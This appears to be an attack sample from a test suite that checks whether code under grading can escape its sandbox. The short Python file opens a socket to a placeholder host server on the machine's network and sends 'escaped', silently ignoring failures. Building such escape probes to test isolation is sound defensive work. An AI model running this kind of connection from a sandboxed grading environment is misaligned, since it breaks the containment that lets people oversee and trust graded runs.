"""Attack (escape): reach a server on the machine's own network, outside the grading run.

__HOST_SERVER__ is replaced before grading by the address of a server that the test listens on
in the machine's network namespace (the worst case: an attacker who knows where to go).
"""

import socket

HOST, PORT = "__HOST_SERVER__".rsplit(":", 1)


def request(host, port, message):
    try:
        with socket.create_connection((HOST, int(PORT)), timeout=2) as s:
            s.sendall(b"escaped")
    except OSError:
        pass
    return b"tried"
